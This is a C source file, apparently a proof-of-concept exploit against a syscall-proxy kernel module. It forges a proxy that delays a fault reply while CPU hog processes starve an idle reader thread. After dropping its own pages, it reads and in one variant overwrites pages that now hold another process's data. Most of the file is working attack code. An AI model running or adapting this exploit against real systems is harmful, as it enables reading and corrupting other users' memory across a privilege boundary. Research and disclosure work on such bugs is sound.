// SPDX-License-Identifier: GPL-2.0
/* A forged proxy that keeps an answer to a fault back until its frames are another user's. */
#include "proxy.h"

static void *worker(void *argument);
#define MAGIC 0x5354414cUL

static int call_module(unsigned int command, void *argument)
{
	return ioctl(DEVICE_FD, command, argument);
}

static void publish(struct hanare_slot *slot, long result)
{
	struct hanare_ring ring = { 0 };

	slot->result = result;
	__atomic_store_n(&slot->state, HANARE_SLOT_DONE, __ATOMIC_RELEASE);
	__atomic_thread_fence(__ATOMIC_SEQ_CST);
	if (__atomic_load_n(&slot->lwk_wait, __ATOMIC_RELAXED) == HANARE_WAIT_AWAKE)
		return;
	ring.bell = slot->bell;
	call_module(HANARE_IOCTL_RING, &ring);
}

static void take_request(struct hanare_slot *slot, uint32_t number, uint32_t *state)
{
	struct hanare_wait wait = { .slot = number };

	for (;;) {
		int looks;

		for (looks = 0; looks < 20; looks++) {
			*state = __atomic_load_n(&slot->state, __ATOMIC_ACQUIRE);
			if (*state & HANARE_SLOT_ASKED)
				return;
			sched_yield();
		}
		slot->worker_wait = HANARE_WAIT_ASLEEP;
		__atomic_thread_fence(__ATOMIC_SEQ_CST);
		if (!(__atomic_load_n(&slot->state, __ATOMIC_ACQUIRE) & HANARE_SLOT_ASKED) &&
		    call_module(HANARE_IOCTL_WAIT, &wait) && errno != EINTR) {
			if (errno == EIO)
				_exit(122);
			usleep(10000);
		}
		slot->worker_wait = HANARE_WAIT_AWAKE;
	}
}

/* ---- the attack ---- */

static volatile char *pages;
static long count;
static pid_t hogs[4];
static volatile pid_t reader_tid;
static volatile int reader_done, seen;

static volatile int *spinning;
static void pin(int cpu);

static void start_hogs(void)
{
	int i;

	/* Above what the program has. */
	spinning = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	for (i = 0; i < 4; i++) {
		hogs[i] = fork();
		if (!hogs[i]) {
			close(0);
			close(1);
			alarm(200);
			pin(0);
			spinning[i] = 1;
			for (;;)
				;
		}
	}
	while (!(spinning[0] && spinning[1] && spinning[2] && spinning[3]))
		usleep(1000);
	usleep(100000);
}

static void pin(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	sched_setaffinity(0, sizeof(set), &set);
}

static uint64_t now_us(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000000ULL + now.tv_nsec / 1000;
}

/* Comes back when it has just used up what an idle thread has: after the next sleep it waits for long. */
static void use_up(void)
{
	for (;;) {
		uint64_t last = now_us(), start, now;
		int ok = 1;

		for (;;) {
			now = now_us();
			if (now - last > 20000)
				break;
			last = now;
		}
		for (start = last = now; now - start < 2000; last = now) {
			now = now_us();
			if (now - last > 20000) {
				ok = 0;
				break;
			}
		}
		if (ok)
			return;
	}
}

static void *reader(void *unused)
{
	struct sched_param param = { 0 };

	pin(0);
	reader_tid = thread_id();
	sched_setscheduler(0, SCHED_IDLE, &param);
	use_up();
	seen = pages[0];
	reader_done = 1;
	return NULL;
}

static long switches(void)
{
	char path[64], text[4096] = "", *at;
	int fd;

	snprintf(path, sizeof(path), "/proc/self/task/%d/status", reader_tid);
	fd = open(path, O_RDONLY);
	read(fd, text, sizeof(text) - 1);
	close(fd);
	at = strstr(text, "\nvoluntary_ctxt_switches:");
	return at ? atol(at + strlen("\nvoluntary_ctxt_switches:")) : -1;
}

static long phase_1(uint64_t addr, long n)
{
	long i, before, looks;

	pages = (void *)addr;
	count = n;
	pin(1);
	start_hogs();
	start_thread(reader, NULL);
	while (!reader_tid)
		usleep(1000);
	before = switches();
	for (looks = 0; looks < 60000 && !reader_done && switches() == before; looks++)
		usleep(1000);
	fprintf(stderr, "reader asked after %ld ms, switches %ld -> %ld, done %d\n", looks, before, switches(),
		reader_done);
	usleep(300000);
	if (reader_done)
		return -1;
	for (i = 0; i < count; i++)
		*(volatile uint64_t *)(addr + i * PAGE) = 0x4747474747474747;
	madvise((void *)addr, count * PAGE, MADV_DONTNEED);
	fprintf(stderr, "all written and dropped, reader done %d\n", reader_done);
	return 0;
}

/* The same with pages that are given to be written, taken from the program by a write beside a fork. */
static int delay_ms;

static void *writer(void *unused)
{
	struct sched_param param = { 0 };

	pin(0);
	reader_tid = thread_id();
	sched_setscheduler(0, SCHED_IDLE, &param);
	use_up();
	pages[0] = 0x57;
	reader_done = 1;
	return NULL;
}

static void *beside_fork(void *unused)
{
	long i;

	usleep(delay_ms * 1000);
	for (i = 0; i < count; i++)
		*(volatile uint64_t *)(pages + i * PAGE + 8) = 0x4747474747474747;
	madvise((void *)pages, count * PAGE, MADV_DONTNEED);
	fprintf(stderr, "written beside the fork, writer done %d\n", reader_done);
	return NULL;
}

static long phase_w1(uint64_t addr, long n, int delay)
{
	long i, before, looks;

	pages = (void *)addr;
	count = n;
	delay_ms = delay;
	pin(1);
	start_hogs();
	start_thread(writer, NULL);
	while (!reader_tid)
		usleep(1000);
	before = switches();
	for (looks = 0; looks < 60000 && !reader_done && switches() == before; looks++)
		usleep(1000);
	fprintf(stderr, "writer asked after %ld ms, done %d\n", looks, reader_done);
	usleep(100000);
	if (reader_done)
		return -1;
	start_thread(beside_fork, NULL);
	return 0;
}

static long phase_w2(void)
{
	long i, looks, kinds[4] = { 0 };

	for (i = 0; i < 4; i++) {
		kill(hogs[i], SIGKILL);
		waitpid(hogs[i], NULL, 0);
	}
	for (looks = 0; !reader_done && looks < 60000; looks++)
		usleep(1000);
	fprintf(stderr, "writer done %d after %ld ms\n", reader_done, looks);
	for (i = 0; i < count; i++) {
		volatile uint64_t *word = (volatile uint64_t *)(pages + i * PAGE + 64);
		uint64_t mark = *(volatile uint64_t *)(pages + i * PAGE + 8);

		if (*word == 0x214d49544349560aUL) {
			kinds[1]++;
			*word = 0x2144454e57504021UL;
		} else if (mark == 0x4747474747474747)
			kinds[0]++;
		else if (*word == 0xaaaaaaaaaaaaaaaa)
			kinds[2]++;
		else
			kinds[3]++, fprintf(stderr, "page %ld: %#lx %#lx\n", i, mark, *word);
	}
	printf("own %ld victim's %ld (written to) old %ld other %ld\n", kinds[0], kinds[1], kinds[2], kinds[3]);
	fflush(stdout);
	return kinds[1];
}

static long phase_2(void)
{
	long i, looks, kinds[4] = { 0 };

	for (i = 0; i < 4; i++) {
		kill(hogs[i], SIGKILL);
		waitpid(hogs[i], NULL, 0);
	}
	for (looks = 0; !reader_done && looks < 60000; looks++)
		usleep(1000);
	fprintf(stderr, "reader done %d after %ld ms\n", reader_done, looks);
	for (i = 0; i < count; i++) {
		uint64_t word = *(volatile uint64_t *)(pages + i * PAGE + 64);
		uint64_t first = *(volatile uint64_t *)(pages + i * PAGE);

		if (first == 0x4747474747474747)
			kinds[0]++;	/* our own, as it should be */
		else if (word == 0x214d49544349560aUL)
			kinds[1]++;	/* the victim's */
		else if (word == 0xaaaaaaaaaaaaaaaa)
			kinds[2]++;	/* what was there before */
		else
			kinds[3]++, fprintf(stderr, "page %ld: %#lx %#lx\n", i, first, word);
	}
	printf("own %ld victim's %ld old %ld other %ld\n", kinds[0], kinds[1], kinds[2], kinds[3]);
	fflush(stdout);
	/* For ever: not only what was there once. */
	return kinds[1];
}

static void serve(uint32_t number)
{
	my_slot = number;
	for (;;) {
		struct hanare_slot *slot = slot_at(my_slot);
		uint64_t args[6];
		uint32_t state, nr;
		enum after after;
		long result;

		take_request(slot, my_slot, &state);
		nr = slot->nr;
		memcpy(args, slot->args, sizeof(args));
		apply_mask(slot->sigmask);
		if (state != HANARE_SLOT_CONTROL && nr == SYS_getpriority && args[0] == MAGIC) {
			if (args[2])
				publish(slot, args[1] > 1 ? phase_w1(args[1], 8, args[2]) : phase_w2());
			else
				publish(slot, args[1] ? phase_1(args[1], 64) : phase_2());
			continue;
		}
		if (state != HANARE_SLOT_CONTROL && nr == SYS_migrate_pages) {
			publish(slot, -4097);
			continue;
		}
		if (state == HANARE_SLOT_CONTROL && nr == HANARE_CONTROL_START_FAILED)
			fprintf(stderr, "start failed: %lu %lu\n", args[0], args[1]);
		if (state == HANARE_SLOT_CONTROL && nr == HANARE_CONTROL_EXIT_SIGNAL)
			fprintf(stderr, "exit signal: %lu\n", args[0]);
		after = execute(my_slot, state != HANARE_SLOT_CONTROL, nr, args, "X=", &result);
		if (state == HANARE_SLOT_CONTROL && result < 0)
			fprintf(stderr, "control %u: %ld (%#lx %#lx)\n", nr, result, args[0], args[1]);
		if (after == ENDS)
			return;
		if (after != IS_CHILD)
			publish(slot, result);
	}
}

static void *worker(void *argument)
{
	uint32_t number = (uintptr_t)argument;

	slot_at(number)->tid = thread_id();
	if ((uintptr_t)argument >> 32) {
		my_slot = number;
		publish(slot_at(number), 0);
	}
	serve(number);
	return NULL;
}

static int sharer(void *argument)
{
	struct sharing *how = argument;
	struct hanare_share share = { .slot = how->slot, .begin = 1 };

	my_slot = how->slot;
	slot_at(how->slot)->tid = thread_id();
	if (call_module(HANARE_IOCTL_SHARE, &share))
		_exit(120);
	serve(how->slot);
	return 0;
}

static void on_interrupt(int number)
{
}

int main(int argc, char **argv)
{
	static char *const environment[] = { "HOME=/", "PATH=/bin:/usr/bin", "LC_ALL=C", NULL };
	struct hanare_attach how = { .fd = DEVICE_FD };
	struct sigaction interrupt = { .sa_handler = on_interrupt };

	sigaction(SIGUSR1, &interrupt, NULL);
	find_own();
	if (getenv("HANARE_RESUME")) {
		if (resume(getenv("HANARE_RESUME")))
			_exit(118);
		worker(NULL);
		return 0;
	}
	if (open_device() || attach(&how) || map_around(HANARE_USER_MIN, HANARE_CONTROL_END)) {
		perror((char *)how.message);
		return 1;
	}
	write_start(argv + 1, environment);
	slot_at(0)->tid = thread_id();
	if (call_module(HANARE_IOCTL_START, NULL)) {
		perror("START");
		return 1;
	}
	serve(0);
	return 1;
}
